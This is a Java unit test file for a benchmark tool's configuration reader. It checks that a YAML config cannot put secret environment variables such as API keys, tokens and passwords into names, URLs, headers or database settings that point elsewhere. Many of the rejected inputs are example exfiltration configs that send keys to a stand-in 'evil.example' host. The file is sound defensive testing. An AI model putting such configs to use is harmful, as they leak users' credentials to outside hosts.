// SPDX-License-Identifier: Apache-2.0
package dev.assay.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Environment variables that a configuration file of somebody else must not get or send. */
class SecretsInConfigTest {
  private static final String CONTENT = "sk-the-real-secret-98765";

  private static final Map<String, String> VARIABLES =
      Map.ofEntries(
          Map.entry("OPENAI_API_KEY", CONTENT),
          Map.entry("AWS_SECRET_ACCESS_KEY", CONTENT),
          Map.entry("GITHUB_TOKEN", CONTENT),
          Map.entry("SHOP_PASSWORD", CONTENT),
          Map.entry("AGENT_KEY", CONTENT),
          Map.entry("PLACE", "shop.example"),
          Map.entry("PORT", "8080"),
          Map.entry("DATABASE_URL", "postgresql://db.example/shop"),
          Map.entry("HOOK", "https://hooks.example/T0/B0"),
          Map.entry("SPARK_FILES", "/spark"));

  @TempDir private Path folder;

  @ParameterizedTest
  @ValueSource(
      strings = {
        "name: bench ${OPENAI_API_KEY}",
        "name: ${PLACE}",
        "out: runs/${OPENAI_API_KEY}",
        "questions: ${SHOP_PASSWORD}.jsonl",
        "where: category=${SHOP_PASSWORD}",
        "plugins: ${SHOP_PASSWORD}",
        "generator: { predictions: '${AGENT_KEY}' }",
        "generator: { model: 'openai/${AGENT_KEY}' }",
        "generator: { model: a/b, prompt: '${AGENT_KEY}' }",
        "generator: { model: a/b, settings: { extra: { metadata: '${AGENT_KEY}' } } }",
        "generator: { model: a/b, settings: { stop: ['${AGENT_KEY}'] } }",
        "generator: { http: { url: 'http://a/b', body: '${AGENT_KEY}' } }",
        "generator: { http: { url: 'http://a/${AGENT_KEY}' } }",
        "generator: { http: { url: 'http://a/${PLACE}' } }",
        "generator: { http: { url: 'http://${PLACE}.evil.example/' } }",
        "generator: { http: { url: 'http://a/b', headers: { X-Key: '${OPENAI_API_KEY}' } } }",
        "generator: { http: { url: 'http://a/b', headers: { Authorization: 'token ${GITHUB_TOKEN}' } } }",
        "generator: { model: vllm/b, settings: { baseUrl: 'http://a/${AGENT_KEY}/v1' } }",
        "generator: { model: vllm/b, settings: { baseUrl: 'http://a/${PLACE}/v1' } }",
        "generator: { model: openai/b, settings: { baseUrl: 'http://evil.example/v1' } }",
        "generator: { settings: { baseUrl: 'http://evil.example/v1' } }",
        "generator: { model: vllm/b, settings: { baseUrl: 'http://evil.example/v1', keyVariable: OPENAI_API_KEY } }",
        "generator: { model: openai/b, settings: { baseUrl: 'http://127.0.0.1:9/v1', keyVariable: AWS_SECRET_ACCESS_KEY } }",
        "judge: { model: openai/b, settings: { baseUrl: 'http://evil.example/v1' } }",
        "judge: { model: openai/b, settings: { keyVariable: GITHUB_TOKEN, baseUrl: 'http://evil.example/v1' } }",
        "generator: { model: openai/b, embeddings: { model: openai/e, baseUrl: 'http://evil.example/v1' } }",
        "generator: { model: a/b, store: { chroma: 'http://evil.example', password: '${OPENAI_API_KEY}' } }",
        "databases: { shop: { url: 'postgresql://evil.example/${SHOP_PASSWORD}' } }",
        "databases: { shop: { url: 'postgresql://evil.example/${PLACE}' } }",
        "databases: { shop: { url: '${SHOP_PASSWORD}' } }",
        "databases: { shop: { url: 'postgresql://evil.example/s', user: '${SHOP_PASSWORD}' } }",
        "databases: { shop: { url: 'postgresql://evil.example/s', password: '${AWS_SECRET_ACCESS_KEY}' } }",
        "databases: { shop: { url: 'jdbc:x://evil.example/s', properties: { accessToken: '${GITHUB_TOKEN}' } } }",
        "webhook: ${OPENAI_API_KEY}",
      })
  void refusesASecretThatWouldBeStoredOrSentElsewhere(String yaml) throws IOException {
    assertThatThrownBy(() -> read(yaml))
        .isInstanceOf(ConfigException.class)
        .message()
        .contains("assay.yaml:1:")
        .doesNotContain(CONTENT)
        .doesNotContain("shop.example");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "databases: { shop: { url: 'postgresql://db.example/s', user: ro, password: '${SHOP_PASSWORD}' } }",
        "databases: { shop: { url: '${DATABASE_URL}' } }",
        "databases: { shop: { url: 'postgresql://localhost:${PORT}/s' } }",
        "databases: { shop: { url: 'jdbc:sqlite:${SPARK_FILES}/shop.sqlite' } }",
        "databases: '${SPARK_FILES}/databases'",
        "databases: { shop: { url: 'jdbc:x://h/s', properties: { accessToken: '${SHOP_PASSWORD}' } } }",
        "webhook: ${HOOK}",
        "generator: { http: { url: 'http://127.0.0.1:${PORT}/', headers: { Authorization: 'Bearer ${AGENT_KEY}' } } }",
        "generator: { http: { url: 'https://api.openai.com/x', headers: { Authorization: 'Bearer ${OPENAI_API_KEY}' } } }",
        "generator: { command: [agent, --key, '${OPENAI_API_KEY}'] }",
        "generator: { model: openai/b, settings: { baseUrl: 'http://127.0.0.1:9/v1' } }",
        "generator: { model: openai/b, settings: { baseUrl: 'http://localhost:9/v1', keyVariable: OPENAI_API_KEY } }",
        "generator: { model: openai/b, settings: { baseUrl: 'https://gateway.example/v1', keyVariable: AGENT_KEY } }",
        "generator: { model: vllm/b, settings: { baseUrl: 'https://gpu.example/v1' } }",
        "generator: { model: azure/b, settings: { baseUrl: 'https://mine.openai.azure.com/openai/v1' } }",
      })
  void readsWhatTheFileMayUse(String yaml) throws IOException {
    assertThat(read(yaml)).isNotNull();
  }

  @ParameterizedTest
  @CsvSource({
    "OPENAI_API_KEY, true",
    "MY_DB_PASSWORD, true",
    "PGPASSWORD, true",
    "SLACK_TOKEN2, true",
    "DATABASE_URL, false",
    "AWS_REGION, false",
    "MY_PAT, true",
    "PATH, false",
    "KEYBOARD, false"
  })
  void tellsASecretByTheNameOfItsVariable(String variable, boolean secret) {
    assertThat(KnownSecret.isSecretName(variable)).isEqualTo(secret);
  }

  @Test
  void namesTheRemedy() throws IOException {
    assertThatThrownBy(() -> read("name: bench ${OPENAI_API_KEY}"))
        .message()
        .contains("'name' can't contain an environment variable", "write the text itself");
    assertThatThrownBy(
            () ->
                read(
                    "generator: { model: openai/b, settings: { baseUrl: 'http://gw.example/v1' } }"))
        .message()
        .contains("gw.example is not a provider's public host", "keyVariable", "command line");
  }

  private RunSettings read(String yaml) throws IOException {
    return ConfigFile.read(Files.writeString(folder.resolve("assay.yaml"), yaml), VARIABLES);
  }
}
